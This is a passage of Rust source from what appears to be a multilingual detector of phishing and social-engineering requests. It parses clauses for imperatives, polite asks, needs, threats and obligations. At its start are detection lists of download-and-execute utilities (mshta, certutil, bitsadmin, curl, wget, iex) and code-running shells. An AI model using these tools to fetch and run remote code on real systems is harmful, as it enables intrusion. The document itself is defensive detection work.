/// also runs what it fetched (`mshta`, `msiexec /i`). PowerShell's long
/// names count by their last part ("Invoke-WebRequest").
fn fetcher(word: &str) -> Option<bool> {
    match word.rsplit('-').next().unwrap_or(word) {
        "mshta" | "msiexec" | "regsvr32" | "rundll32" => Some(true),
        "iwr" | "irm" | "curl" | "wget" | "certutil" | "bitsadmin" | "webrequest"
        | "restmethod" | "downloadstring" | "downloadfile" | "bitstransfer" => Some(false),
        _ => None,
    }
}

/// A shell or interpreter that runs what it is given (`| iex`, `| sh`,
/// `powershell -c`).
fn runs_code(word: &str) -> bool {
    matches!(
        word.rsplit('-').next().unwrap_or(word),
        "iex"
            | "expression"
            | "sh"
            | "bash"
            | "zsh"
            | "powershell"
            | "pwsh"
            | "cmd"
            | "python"
            | "python3"
    )
}

/// Verbs that pull data out in bulk: "export", "extract", "dump".
fn strong_export(word: &str) -> bool {
    [
        "export", "extract", "dump", "pull", "compil", "extrah", "extra", "sacar", "saque",
    ]
    .iter()
    .any(|p| word.starts_with(p))
}

/// Whether `word` can be an imperative in `lang`, by its form.
fn imperative_form(lang: Lang, word: &str) -> bool {
    match lang {
        EN => {
            !(word.ends_with('s') && !word.ends_with("ss")
                || [
                    "ed", "ing", "al", "ment", "tion", "sion", "ance", "ence", "ity", "ure",
                ]
                .iter()
                .any(|x| word.ends_with(x)))
        }
        // Usted forms ("envíe", "transfiera", "facilítenos"), with clitics
        // ("mándamelos").
        ES => {
            [
                "e", "a", "en", "an", "nos", "me", "le", "les", "lo", "la", "los", "las", "ar",
                "er", "ir",
            ]
            .iter()
            .any(|x| word.ends_with(x))
                && !["ado", "ida", "ada", "ción", "cion", "ia", "ea"]
                    .iter()
                    .any(|x| word.ends_with(x))
        }
        _ => true,
    }
}

impl<'a> Reader<'a> {
    /// The clause read from `start` (the first word of the clause that
    /// asked, or of the one before), with what `v` refers back to.
    fn widened(&self, v: &View<'_>, start: usize, clause: &Clause) -> View<'a> {
        View::new(
            self.toks,
            self.visible,
            start..clause.toks.end,
            v.back.clone(),
            clause.aside,
        )
    }

    fn word(&self, i: usize) -> &'a str {
        &self.buffer[self.toks[i].start..self.toks[i].end]
    }

    fn span(&self, range: &Range<usize>) -> Range<usize> {
        let a = self.toks[range.start].start;
        let b = self.toks[range.end - 1].end;
        a..b
    }

    fn push(
        &mut self,
        category: RiskCategory,
        why: String,
        clause: &Range<usize>,
        indicator: Option<String>,
    ) {
        self.push_found(category, why, clause, indicator, false);
    }

    /// Records a finding; one per category, a plain one in place of one
    /// made "as usual".
    fn push_found(
        &mut self,
        category: RiskCategory,
        why: String,
        clause: &Range<usize>,
        indicator: Option<String>,
        as_usual: bool,
    ) {
        if self
            .retold
            .iter()
            .any(|r| r.start <= clause.start && clause.end <= r.end)
        {
            return;
        }
        if let Some(at) = self.found.iter().position(|f| f.category == category) {
            if as_usual || !self.found[at].as_usual {
                return;
            }
            self.found.remove(at);
        }
        let clause = self.span(clause);
        self.found.push(Recognised {
            category,
            why,
            clause,
            indicator,
            as_usual,
        });
    }

    /// The act of a condition a threat hangs on: "if you do not confirm
    /// your password, your access will be locked", "su cuenta será
    /// bloqueada si no confirma su contraseña". The reader, a negation and
    /// a verb after the condition, and a loss that is not itself denied:
    /// in another clause of the sentence, or before the condition's word
    /// in the same clause.
    fn threatened_condition(
        &self,
        clauses: &[Clause],
        n: usize,
        v: &View<'_>,
        hypothetical: bool,
    ) -> Option<(Act, &'static str)> {
        let toks = self.toks;
        let has = |i: usize, c: C| toks[i].cls & c.bit() != 0;
        let condition = v.first(C::CONDITION)?;
        let after = || v.idx().filter(move |&i| i > condition);
        if !after().any(|i| has(i, C::ADDRESSEE)) || !after().any(|i| has(i, C::NEGATION)) {
            return None;
        }
        let verb = after().rfind(|&i| is_verb(toks[i].cls))?;
        let loss_before = !hypothetical
            && v.idx()
                .take_while(|&i| i < condition)
                .any(|i| has(i, C::THREAT))
            && !v
                .idx()
                .take_while(|&i| i < condition)
                .any(|i| has(i, C::NEGATION));
        let sentence = clauses[n].sentence;
        let loss_beside = hypothetical
            && clauses
                .iter()
                .enumerate()
                .filter(|&(m, c)| m != n && c.sentence == sentence)
                .any(|(_, c)| {
                    let w = View::of_clause(toks, self.visible, c);
                    w.all() & C::THREAT.bit() != 0
                        && w.all() & bits(&[C::NEGATION, C::CONDITION]) == 0
                });
        (loss_before || loss_beside).then_some((Act { at: verb }, "obligation on the reader"))
    }

    /// Whether a negation governs the clause's act or verb: before it (or,
    /// in German, anywhere in the clause: "geben Sie es nicht weiter").
    fn negated(&self, v: &View<'_>) -> bool {
        let toks = self.toks;
        // "Para no retrasar el cierre, ¿nos puedes enviar ...?", "pour ne
        // pas bloquer ...": a negated purpose denies its own infinitive,
        // not the clause's ask.
        // So is a purpose with its own subject: "... so you won't miss the
        // cut-off", "damit Sie nicht ...", "pour que vous ne ...".
        let in_purpose = |i: usize| {
            let mut j = i;
            while j > v.range.start && toks[j - 1].cls & C::NEGATION.bit() != 0 {
                j -= 1;
            }
            if j > v.range.start && toks[j - 1].cls & C::PURPOSE.bit() != 0 {
                return true;
            }
            // An auxiliary or two, then the purpose's own subject.
            let mut k = j;
            while k > v.range.start
                && j - k < 2
                && (toks[k - 1].cls & C::MODAL.bit() != 0
                    || matches!(
                        self.word(k - 1),
                        "don" | "do" | "does" | "did" | "won" | "will" | "ll"
                    ))
            {
                k -= 1;
            }
            let subject = bits(&[C::ADDRESSEE, C::WRITER_SUBJECT, C::PRONOUN, C::THIRD_PARTY]);
            k > v.range.start + 1
                && toks[k - 1].cls & subject != 0
                && matches!(
                    self.word(k - 2),
                    "so" | "that"
                        | "so that"
                        | "damit"
                        | "dass"
                        | "sodass"
                        | "so dass"
                        | "que"
                        | "pour que"
                        | "afin que"
                        | "para que"
                )
                && (self.word(k - 2) != "that" || self.word(k.saturating_sub(3)) == "so")
                && (self.word(k - 2) != "que"
                    || matches!(self.word(k.saturating_sub(3)), "pour" | "para" | "afin"))
                && (self.word(k - 2) != "dass" || self.word(k.saturating_sub(3)) == "so")
        };
        // Negations from the first one in a purpose on belong to it (the
        // second half of "ne ... pas" too); after a consequence marker
        // ("... avant le 4, faute de quoi rien ne pourra être fait") they
        // deny the threat, not the ask. Only those before both count.
        let purpose_from = v
            .idx()
            .find(|&k| toks[k].cls & C::NEGATION.bit() != 0 && in_purpose(k));
        let consequence_at = v.idx().find(|&j| {
            matches!(
                self.word(j),
                "faute" | "andernfalls" | "ansonsten" | "contrario" | "failing"
            )
        });
        let until = purpose_from
            .into_iter()
            .chain(consequence_at.map(|m| m + 1))
            .min()
            .unwrap_or(v.range.end);
        let Some(neg) = v
            .idx()
            .take_while(|&i| i < until)
            .find(|&i| toks[i].cls & C::NEGATION.bit() != 0)
        else {
            return false;
        };
        if self.contrast_at(v) == Some(neg) {
            return false;
        }
        if self.langs[0] == DE {
            // "..., dafür brauche ich weder Zugangsdaten noch Zugang": a
            // "kein" or "weder" just after the predicate denies the thing
            // it stands before, behind a comma too ("..., aber keine
            // Adminrechte" still asks for what came first).
            let subject = bits(&[C::WRITER_SUBJECT, C::ADDRESSEE, C::PRONOUN, C::THIRD_PARTY]);
            let predicate_before = v
                .idx()
                .filter(|&j| j < neg)
                .rev()
                .find(|&j| toks[j].cls & subject == 0)
                .is_some_and(|j| {
                    is_verb(toks[j].cls)
                        || toks[j].cls & bits(&[C::NEED, C::MUST, C::ASK, C::MODAL]) != 0
                });
            // "Bitte nimm das Konto auf, der Scanner kann kein MFA": an ask
            // before it stays one.
            let asked_before = v
                .idx()
                .take_while(|&j| j < neg)
                .any(|j| toks[j].cls & bits(&[C::POLITE, C::ASK]) != 0);
            let denies_object = matches!(self.word(neg), "weder" | "kein" | "keine" | "keinen")
                && predicate_before
                && !asked_before
                && v.idx()
                    .filter(|&j| j > neg)
                    .take(2)
                    .any(|j| toks[j].cls & noun_classes() != 0);
            if denies_object {
                return true;
            }
            // "Nicht" sits late in German; behind a comma it belongs to a
            // subordinate clause ("eine Überweisung, die nicht ... kann").
            // The clause's first word carries the separator that opened the
            // clause ("Bitte beachten: Wir fragen nie ..."), not a comma in it.
            // A colon opens what the clause says ("Bitte merken Sie sich:
            // wir verlangen nie ..."): no subordinate clause behind it.
            return !(v.range.start + 1..=neg).any(|i| {
                self.toks[i].sep == Sep::Comma
                    && !self.toks[i - 1].colon
                    && self.toks[i].aside == v.aside
            });
        }
        let predicate = |i: usize| {
            is_verb(toks[i].cls) || toks[i].cls & bits(&[C::NEED, C::MUST, C::ASK, C::MODAL]) != 0
        };
        // "J'ai besoin d'un virement pour un dossier confidentiel que je ne
        // peux pas annoncer": the negation is in a relative clause on a
        // noun after the main predicate, and denies nothing asked.
        let grammar = bits(&[
            C::ADDRESSEE,
            C::WRITER_OBJECT,
            C::WRITER_SUBJECT,
            C::THIRD_PARTY,
            C::PRONOUN,
            C::CONJUNCTION,
            C::NEGATION,
            C::CONDITION,
        ])
            // "The passphrase that wasn't entered": a relative clause on
            // the object of a request itself says something of it.
            | noun_classes();
        let relative = v
            .idx()
            .filter(|&j| j > v.range.start + 1 && j < neg)
            .any(|j| {
                matches!(
                self.word(j),
                "que" | "qui" | "dont" | "that" | "which" | "who" | "quien" | "cual"
            ) && !predicate(j - 1)
                && toks[j - 1].cls & grammar == 0
                // A noun phrase before it ("une opération que"), not a
                // verb ("it finds that").
                && (j.saturating_sub(3).max(v.range.start)..j - 1)
                    .any(|k| toks[k].cls & C::ARTICLE.bit() != 0)
                && (v.range.start..j - 1).any(predicate)
            });
        // "Nothing has changed", "rien n'a changé": a change denied right
        // after the negation.
        let change_denied = v.idx().filter(|&i| i > neg && i <= neg + 2).any(|i| {
            // A verb of change ("has changed", "changé"), not "nothing
            // new" said of a detail.
            toks[i].cls & C::V_CHANGE.bit() != 0
                || toks[i].cls & C::NEW.bit() != 0 && self.word(i).contains(' ')
        });
        !relative && (change_denied || v.idx().filter(|&i| i > neg).any(predicate))
    }

    /// A need stated in the clause: the writer's ("I need", "wir benötigen",
    /// "necesito") or someone's the request is for ("she needs").
    fn need_act(&self, v: &View<'_>) -> Option<(Act, &'static str)> {
        let toks = self.toks;
        let lang = self.langs[0];
        for i in v.idx().filter(|&i| toks[i].cls & C::NEED.bit() != 0) {
            let word = self.word(i);
            let first_person_es = self.langs.contains(&ES)
                && (word.ends_with('o') || word.ends_with("mos") || word.ends_with("ria"));
            // "Brauche für die Aushilfe ...": German drops the "ich" too, when
            // the verb opens the clause ("wer ... möchte" is someone else).
            let first_person_de = lang == DE
                && word.ends_with('e')
                && v.idx()
                    .take_while(|&j| j < i)
                    .all(|j| toks[j].cls & C::FILLER.bit() != 0);
            // "I'd like to thank you all", "je voudrais remercier": a
            // courtesy, not a wish for anything.
            let courtesy = v.idx().filter(|&j| j > i).take(3).any(|j| {
                let w = self.word(j);
                [
                    "thank",
                    "apologi",
                    "welcome",
                    "congratulat",
                    "remerci",
                    "excuser",
                    "bedank",
                    "danken",
                    "entschuldig",
                    "gratulier",
                    "agradec",
                    "felicit",
                    "disculp",
                ]
                .iter()
                .any(|p| w.starts_with(p))
            });
            // "We needed a larger disk last spring": what was needed then is told,
            // not asked.
            if courtesy || word == "needed" || word.starts_with("needed ") {
                continue;
            }
            // A subject line drops the "I": "Need a PDF editor, please".
            let subject_opening = i == v.range.start && toks[i].end <= self.subject_end;
            if v.near(i, C::WRITER_SUBJECT, 3, 2).is_some()
                || v.near(i, C::WRITER_OWN, 3, 0).is_some()
                // "Our engineers Lea Hoffmann and Jan Wirtz need ...": the
                // names set beside the subject stand between it and the need.
                || self.names_before(v, i).is_some_and(|j| {
                    // The role may be a word the lexicon does not know
                    // ("nuestros becarios Pablo y Nuria"): read as a name.
                    toks[j].cls & C::WRITER_OWN.bit() != 0
                        || v.near(j, C::WRITER_OWN, 2, 0).is_some()
                })
                || subject_opening
                || first_person_es
                || first_person_de
                // "Il me faudrait un export": the writer in the unit itself.
                || word.starts_with("il me ")
                || word.starts_with("il nous ")
                || v.near(i, C::ADDRESSEE, 0, 2).is_some() && word.starts_with("need")
            {
                return Some((Act { at: i }, "the writer's need"));
            }
            // "Head office requires you to enrol again ...": whoever
            // requires it, the reader is the one to act.
            if word.starts_with("requir")
                && v.near(i, C::ADDRESSEE, 0, 1).is_some()
                && v.idx()
                    .filter(|&j| j > i + 1)
                    .take(2)
                    .any(|j| is_verb(toks[j].cls))
            {
                return Some((Act { at: i }, "obligation on the reader"));
            }
            // A need stated for someone the request is for: "he needs an
            // E3 licence and the Approvers group", "she'll need:", the
            // Spanish subject dropped ("Necesita: ..." opening its clause).
            let third_person_es = lang == ES
                && (word.ends_with('a') || word.ends_with("an"))
                && v.idx()
                    .take_while(|&j| j < i)
                    .all(|j| toks[j].cls & C::FILLER.bit() != 0);
            // "Sie braucht die gleichen Rollen": the verb's -t makes "sie"
            // she, not the reader ("Sie brauchen").
            let third_person_de = lang == DE
                && word.ends_with('t')
                && v.idx()
                    .take_while(|&j| j < i)
                    .last()
                    .is_some_and(|j| self.word(j) == "sie");
            // "Frau Dr. Maier braucht": a title and a name before the verb.
            // German puts the subject after the verb when something else
            // opens the clause: "ab Montag braucht Herr Kraus ...", "dafür
            // benötigt unser Techniker ...".
            let named = v.near(i, C::TITLE, 3, 0).is_some()
                || lang == DE
                    && word.ends_with('t')
                    && (v.near(i, C::TITLE, 0, 3).is_some()
                        || v.near(i, C::WRITER_OWN, 0, 1)
                            .is_some_and(|o| v.near(o, C::SUPPORT_ROLE, 0, 1).is_some()));
            if v.near(i, C::BENEFICIARY, 2, 0).is_some()
                // "Il lui faut un accès": the someone in the unit itself.
                || word.starts_with("il lui ")
                || word.starts_with("il leur ")
                || named
                || third_person_es
                || third_person_de
                || self.named_subject(v, i)
                // "El técnico necesita ...", "our engineer needs": support
                // staff named by their role.
                || self.support_role_needs(v, i)
                // "The legal team needs all personnel files ...": a group
                // needing records of ours asks the reader for them.
                || v.near(i, C::OTHERS, 3, 0).is_some()
                    && v.idx()
                        .filter(|&j| j > i)
                        .take(6)
                        .any(|j| toks[j].cls & C::O_DATA.bit() != 0)
            {
                return Some((Act { at: i }, "a need for someone"));
            }
        }
        None
    }

    /// The request act of a clause, if it is one.
    fn act(&self, v: &View<'_>) -> Option<(Act, &'static str)> {
        let toks = self.toks;
        let lang = self.langs[0];
        if let Some(i) = self.polite_condition(v) {
            return Some((Act { at: i }, "polite request"));
        }
        if let Some(i) = self.call_to_action(v) {
            return Some((Act { at: i }, "imperative"));
        }
        if let Some(i) = self.program_offered(v) {
            return Some((Act { at: i }, "imperative"));
        }
        // "Vuelva a escribir su clave", "vuelve a instalarlo": "do again" is
        // an order of the infinitive it carries.
        if lang == ES
            && let Some(i) = v
                .idx()
                .take(3)
                .find(|&i| matches!(self.word(i), "vuelva" | "vuelve" | "vuelvan" | "volved"))
            && let Some(inf) = v
                .idx()
                .skip_while(|&j| j <= i)
                .take(2)
                .find(|&j| is_verb(toks[j].cls))
        {
            return Some((Act { at: inf }, "imperative"));
        }
        // "Pour confirmer votre créneau, merci :" and a list of "de ...":
        // the "merci de" of each item.
        if let Some(last) = v.idx().last()
            && toks[last].colon
            && self.word(last) == "merci"
        {
            return Some((Act { at: last }, "polite request"));
        }
        // "Te pediremos renovarla cuando ...": the future tells of an ask
        // to come, under its condition, and asks nothing now.
        if let Some(i) = v.first(C::POLITE).filter(|&i| {
            let w = self.word(i);
            !(lang == ES
                && ["pedire", "pedira", "rogare", "rogara"]
                    .iter()
                    .any(|f| w.contains(f)))
        }) {
            // "Sie braucht bitte: ...": the courtesy softens a need, which
            // says whose it is.
            if i > v.range.start
                && toks[i - 1].cls & C::NEED.bit() != 0
                && let Some(found) = self.need_act(v)
            {
                return Some(found);
            }
            return Some((Act { at: i }, "polite request"));
        }
        // Imperative: the clause opens with a verb in an imperative form
        // ("send", "senden Sie", "envoyez-moi", "envíe").
        let first = v
            .idx()
            .find(|&i| toks[i].cls & C::FILLER.bit() == 0 || is_verb(toks[i].cls));
        // "... and read me the code": an order aimed at the writer may
        // follow any clause; a story's "... and paid a fee" may not.
        if let Some(i) = first
            && (self.may_command || v.near(i, C::WRITER_OBJECT, 0, 2).is_some())
            && !toks[i].heading
            && is_verb(toks[i].cls)
            && toks[i].cls & (C::WRITER_SUBJECT.bit() | C::ADDRESSEE.bit()) == 0
        {
            let word = self.word(i);
            let ok = match lang {
                // "Senden Sie", or the familiar "schick mir".
                DE => {
                    // A unit may hold its pronoun: "lesen Sie" ... "vor".
                    word.ends_with(" sie")
                        || v.near(i, C::ADDRESSEE, 0, 1).is_some()
                        || v.near(i, C::WRITER_OBJECT, 0, 1).is_some()
                }
                // "envoyez", and with its pronoun "connectez-vous"; to a
                // reader called "tu", "installe", "clique".
                // "Transmets-le-moi": the thing's pronoun may stand between.
                FR => {
                    let head = word.split('-').next().unwrap_or(word);
                    let pronoun_then_writer = toks
                        .get(i + 1)
                        .is_some_and(|t| t.cls & C::PRONOUN.bit() != 0 && t.sep == Sep::None)
                        && v.near(i + 1, C::WRITER_OBJECT, 0, 1).is_some();
                    head.ends_with("ez")
                        || v.near(i, C::WRITER_OBJECT, 0, 1).is_some()
                        || pronoun_then_writer
                        || self.familiar && head.ends_with('e') && !word.contains(' ')
                }
                // A unit's verb is its first word ("inicie sesión").
                // A unit's familiar imperative ("inicia sesión") ends like
                // a noun in -ia; as the head of a verb unit it is no noun.
                ES => {
                    let head = word.split(' ').next().unwrap_or(word);
                    imperative_form(lang, head) || word.contains(' ') && head.ends_with('a')
                }
                // English: a base form written in the lexicon ("send",
                // "activate"), not a word sharing its stem ("active").
                _ => {
                    let head = word
                        .split(|c: char| !is_word_char(c))
                        .next()
                        .unwrap_or(word);
                    imperative_form(EN, word) && self.lexicon.is_verb_form(EN, head)
                }
            };
            // A verb used as a noun: "Transfer of funds completed".
            let noun = toks.get(i + 1).is_some_and(|n| {
                matches!(
                    &self.buffer[n.start..n.end],
                    "of" | "was"
                        | "is"
                        | "has"
                        | "have"
                        | "were"
                        | "will"
                        | "von"
                        | "ist"
                        | "wurde"
                        | "de"
                        | "du"
                        | "des"
                )
            }) || toks.get(i + 1).is_some_and(|n| {
                // "Release 5.2": a name with a version.
                n.digits
                    && n.sep == Sep::None
                    && self.buffer.as_bytes().get(n.end) == Some(&b'.')
                    && self.buffer.as_bytes().get(n.end + 1).is_some_and(u8::is_ascii_digit)
            })
                || toks[i].colon
                // "All open invoices": after a quantifier it is an
                // adjective.
                || i > v.range.start && toks[i - 1].cls & C::BULK.bit() != 0
                // "Quick note on ...", "short reminder": an adjective before
                // it makes it a noun.
                || i > v.range.start
                    && matches!(
                        self.word(i - 1),
                        "quick" | "short" | "brief" | "small" | "little" | "final" | "friendly"
                    )
                // "sign-in approvals", "log-in page": a compound, not a verb
                // ("connectez-vous", "envoyez-moi" are verbs with a pronoun).
                || word.contains('-')
                    && !word.rsplit('-').next().is_some_and(|tail| {
                        matches!(tail, "vous" | "moi" | "nous" | "le" | "la" | "les" | "lui" | "leur")
                    });
            if ok && !noun {
                return Some((Act { at: i }, "imperative"));
            }
        }
        // German instructions put the order in the infinitive at the end
        // of a line or list item: "- Treiber installieren <https://...>".
        if lang == DE
            && let Some(i) = self.infinitive_order(v)
        {
            return Some((Act { at: i }, "imperative"));
        }
        // A step of German instructions, verb second after a fronted
        // word or two: "Danach geben Sie ... ein".
        if lang == DE
            && self.may_command
            && let Some(i) = v.idx().skip(1).take(3).find(|&i| {
                is_verb(toks[i].cls)
                    && toks[i].cls & C::ADDRESSEE.bit() == 0
                    && i + 1 < v.range.end
                    && toks[i + 1].cls & C::ADDRESSEE.bit() != 0
                    && self.word(i + 1) == "sie"
            })
            && v.idx().take_while(|&j| j < i).all(|j| {
                toks[j].cls
                    & (bits(VERBS)
                        | bits(&[
                            C::ADDRESSEE,
                            C::WRITER_SUBJECT,
                            C::THIRD_PARTY,
                            C::BENEFICIARY,
                            C::CONDITION,
                            C::CONJUNCTION,
                            C::WH,
                            C::NEGATION,
                            C::PRONOUN,
                        ]))
                    == 0
            })
        {
            return Some((Act { at: i }, "imperative"));
        }
        // A purpose may open the clause before its order, with no comma
        // between: "Para agilizar tu contratación envíanos: ...", "pour
        // accélérer le dossier envoyez-nous ...". The order is the first
        // verb that names the writer as the one to receive, or a reply,
        // which goes to the writer by itself ("para seguir usándolo,
        // conteste con ...").
        if let Some(i) = first
            && self.may_command
            && toks[i].cls & C::PURPOSE.bit() != 0
            && let Some(j) = v.idx().filter(|&j| j > i).take(8).find(|&j| {
                is_verb(toks[j].cls)
                    && toks[j].cls & (C::WRITER_SUBJECT.bit() | C::ADDRESSEE.bit()) == 0
                    && (toks[j].cls & C::WRITER_OBJECT.bit() != 0
                        || v.near(j, C::WRITER_OBJECT, 0, 1).is_some()
                        || self.is_reply(j))
            })
            && (lang != ES || imperative_form(lang, self.word(j)))
        {
            return Some((Act { at: j }, "imperative"));
        }
        // A question for a fact of the reader's: "what is your PIN?",
        // "welche Kennung nutzen Sie?", "quel est votre identifiant ?".
        if let Some(i) = first
            && toks[i].cls & C::WH.bit() != 0
            && v.first(C::ADDRESSEE).is_some()
            && self.asks_question(v)
        {
            return Some((Act { at: i }, "question for a fact"));
        }
        // A question put to the reader: "could you", "können Sie".
        // The modal stands before its subject ("could you", "will you"):
        // nothing but fillers and conjunctions before it, or a question;
        // "the app will ask you to type" is a statement.
        let lead = bits(&[C::FILLER, C::CONJUNCTION, C::POLITE, C::WH, C::COURTESY]);
        for i in v.idx().filter(|&i| toks[i].cls & C::MODAL.bit() != 0) {
            let inverted = v
                .idx()
                .take_while(|&j| j < i)
                .all(|j| toks[j].cls & lead != 0)
                || self.asks_question(v);
            if !inverted && lang == EN {
                continue;
            }
            // "Est-ce que je peux vous redonner ...": the writer is the
            // modal's subject, offering, not asking the reader.
            if i > v.range.start && toks[i - 1].cls & C::WRITER_SUBJECT.bit() != 0 {
                continue;
            }
            // Spoken French and English also ask in the statement's order,
            // the question mark alone making it one: "vous pouvez le
            // réinitialiser ?".
            if v.near(i, C::ADDRESSEE, 0, 2).is_some()
                || self.asks_someone(v, i)
                // "¿Podéis ...?" asks; without its question mark the
                // present tells what the reader can do ("podéis cambiarlo
                // en el panel"), unless the writer is its
                // object ("me podéis dar"); the conditional still asks.
                || lang == ES
                    && self.word(i).starts_with("pod")
                    && (self.word(i).starts_with("podri")
                        || v.near(i, C::WRITER_OBJECT, 1, 0).is_some()
                        || self.asks_question(v))
                // "me puedes cambiar la cuenta", "¿puede enviarme ...?":
                // the present asks with the writer before it or in a
                // question; "puede que" is a maybe, "se puede" anyone's.
                || lang == ES
                    && self.word(i).starts_with("pued")
                    && (v.near(i, C::WRITER_OBJECT, 1, 0).is_some() || self.asks_question(v))
                    && v.near(i, C::WH, 0, 1).is_none()
                    && v.idx().take_while(|&j| j < i).last().is_none_or(|j| self.word(j) != "se")
                || v.near(i, C::ADDRESSEE, 1, 0).is_some() && self.asks_question(v)
                // The passive asks the reader too, for someone else:
                // "could Claire be given access to my mailbox?", "can the
                // new starter be added to the group?". The unit "be given"
                // is the verb. ("Can I be added to your lists?" on a list
                // asks its owner, not us.)
                || lang == EN
                    && self.asks_question(v)
                    && v.idx().take_while(|&j| j < i).all(|j| toks[j].cls & lead != 0)
                    && v
                        .idx()
                        .filter(|&j| j > i)
                        .take(6)
                        .take_while(|&j| toks[j].cls & C::WRITER_SUBJECT.bit() == 0)
                        .any(|j| is_verb(toks[j].cls) && self.word(j).starts_with("be "))
            {
                return Some((Act { at: i }, "question to the reader"));
            }
        }
        // The writer asks to be given something: "could I get local admin
        // rights?", "könnte ich ... bekommen?", "puis-je obtenir ...?", "can
        // I have ...?". The writer follows the modal at once; a verb of
        // receiving or having comes later.
        // A wish, like "I need": what is to be received is the request.
        for i in v.idx().filter(|&i| toks[i].cls & C::MODAL.bit() != 0) {
            let asker = v
                .idx()
                .find(|&j| j > i)
                .is_some_and(|j| toks[j].cls & C::WRITER_SUBJECT.bit() != 0);
            let opens = v
                .idx()
                .take_while(|&j| j < i)
                .all(|j| toks[j].cls & lead != 0)
                && v.idx()
                    .take_while(|&j| j < i)
                    .all(|j| toks[j].cls & C::WH.bit() == 0);
            if asker
                && opens
                && self.asks_question(v)
                && v.idx()
                    .filter(|&j| j > i + 1)
                    .any(|j| toks[j].cls & C::OFFER.bit() != 0 || is_having(self.word(j)))
            {
                return Some((Act { at: i }, "the writer's need"));
            }
        }
        // Spanish asks a familiar reader in the present: "¿me lo
        // desbloqueas?", "nos mandáis la lista": the clitic "me" or "nos"
        // (and a pronoun) just before a verb of the second person.
        if lang == ES {
            for i in v.idx().filter(|&i| is_verb(toks[i].cls)) {
                let word = self.word(i);
                let second_person = word.len() > 4
                    && ["as", "es", "ais", "eis", "is"]
                        .iter()
                        .any(|e| word.ends_with(e));
                // The clitic, not the subject "nosotros": "nos lo mandas".
                let clitic = |j: usize| matches!(self.word(j), "me" | "nos");
                let before = |back: usize| i.checked_sub(back).filter(|&j| j >= v.range.start);
                let asked = before(1).is_some_and(clitic)
                    || before(1).is_some_and(|j| toks[j].cls & C::PRONOUN.bit() != 0)
                        && before(2).is_some_and(clitic);
                if second_person && asked {
                    return Some((Act { at: i }, "question to the reader"));
                }
            }
        }
        if let Some(found) = self.need_act(v) {
            return Some(found);
        }
        // The reader's need of a program the message links to: "your
        // browser needs the viewer extension to open it: https://...".
        // A need, not a wish ("if you want to invest in software"), with
        // the link in the clause itself.
        if v.all() & C::O_SOFTWARE.bit() != 0
            && v.all() & C::WRITER_SUBJECT.bit() == 0
            && let Some(i) = v
                .idx()
                .filter(|&i| toks[i].cls & C::NEED.bit() != 0)
                .filter(|&i| {
                    let w = self.word(i);
                    [
                        "need", "requir", "benötig", "brauch", "besoin", "necesit", "requier",
                    ]
                    .iter()
                    .any(|p| w.starts_with(p))
                })
                .find(|&i| v.near(i, C::ADDRESSEE, 2, 0).is_some())
            && v.idx().any(|j| toks[j].link)
        {
            return Some((Act { at: i }, "the reader's need"));
        }
        // The writer's own obligation is a need: "I need to get onto your
        // machine", "wir müssen auf Ihren Rechner zugreifen".
        for i in v.idx().filter(|&i| toks[i].cls & C::MUST.bit() != 0) {
            // "We should be fine by then": the writer's "should" is an
            // opinion, not a need.
            let opinion = self.word(i) == "should";
            if v.near(i, C::WRITER_SUBJECT, 2, 1).is_some()
                && !self.word(i).starts_with("needed")
                && !opinion
            {
                return Some((Act { at: i }, "the writer's need"));
            }
        }
        // Obligation on the reader: "you must", "Sie müssen", "vous devez",
        // "hay que".
        for i in v.idx().filter(|&i| toks[i].cls & C::MUST.bit() != 0) {
            // An obligation whose subject is someone else ("he must tell
            // you the PIN"): the reader is only its receiver.
            let someone_else = v.near(i, C::BENEFICIARY, 4, 0).is_some()
                || v.near(i, C::THIRD_PARTY, 4, 0).is_some();
            if someone_else {
                continue;
            }
            // "Should" binds the reader only as its subject ("you should
            // update"), not as its receiver ("our team should send you the
            // advice"); first, it opens a condition ("should you need
            // help").
            let should = self.word(i) == "should";
            if should && v.near(i, C::ADDRESSEE, 2, 0).is_none() && !self.readers_by_kind(v, i) {
                continue;
            }
            // "¿Hace falta rellenar algo más?", "do we have to bring anything?":
            // an obligation the writer asks about, nobody's task.
            if self.asks_question(v)
                && v.near(i, C::ADDRESSEE, 3, 2).is_none()
                && !self.readers_by_kind(v, i)
            {
                continue;
            }
            if v.near(i, C::ADDRESSEE, 3, 2).is_some()
                // The unit holds its subject: "tu dois".
                || toks[i].cls & C::ADDRESSEE.bit() != 0
                || lang == ES
                || Some(i) == first
                || lang == DE && self.after_fronted_phrase(v, i)
                // "The update needs to be installed on your host": a
                // passive obligation on the reader's machine.
                || self.passive_on_readers_own(v, i)
                // "Il faut que ...": impersonal, and said to the reader.
                || lang == FR && self.word(i).starts_with("il ")
                || self.readers_by_kind(v, i)
                || self.money_must_move(v, i)
            {
                return Some((Act { at: i }, "obligation on the reader"));
            }
        }
        // A Spanish need in the reader's own person is an obligation:
        // "necesitáis descargar ...", "necesitas activar ..." (the subject is
        // in the ending, a verb follows).
        if lang == ES
            && let Some(i) = v.idx().find(|&i| {
                toks[i].cls & C::NEED.bit() != 0
                    && matches!(self.word(i), "necesitas" | "necesitais")
                    && toks.get(i + 1).is_some_and(|n| is_verb(n.cls))
            })
        {
            return Some((Act { at: i }, "obligation on the reader"));
        }
        // An explicit ask: "we ask you to", "ich bitte Sie", "je vous demande".
        // A body may ask in its own name, in the third person, the reader
        // right beside the verb and an act after it: "la préfecture vous
        // demande de transmettre", "the registry asks you to send" (someone
        // reported, "the caller asked you to", is no ask: see `reported`).
        for i in v.idx().filter(|&i| toks[i].cls & C::ASK.bit() != 0) {
            // The passive puts the ask on the reader, whoever will ask:
            // "you'll be asked to sign in", "you may be asked to confirm
            // your password".
            if i > v.range.start
                && lang == EN
                && matches!(self.word(i - 1), "be" | "been" | "being")
                && v.near(i, C::ADDRESSEE, 4, 0).is_some()
            {
                return Some((Act { at: i }, "explicit ask"));
            }
            // Not a thing's future: "the app will ask you to type".
            let named_body = v.near(i, C::ADDRESSEE, 1, 1).is_some()
                && v.near(i, C::MODAL, 3, 0).is_none()
                && !self.thing_asks(v, i)
                && v.idx()
                    .filter(|&j| j > i && j <= i + 4)
                    .any(|j| is_verb(toks[j].cls));
            // "Les pedimos", "te solicito": Spanish puts the writer in the
            // verb's ending (a participle, "ha solicitado", tells).
            let word = self.word(i);
            let first_person_es = lang == ES
                && (word.ends_with("mos")
                    || word.ends_with('o')
                        && !word.ends_with("ado")
                        && !(word.ends_with("ido") && word.len() > 5));
            if v.near(i, C::ADDRESSEE, 2, 3).is_some()
                && (v.near(i, C::WRITER_SUBJECT, 3, 2).is_some()
                    || Some(i) == first
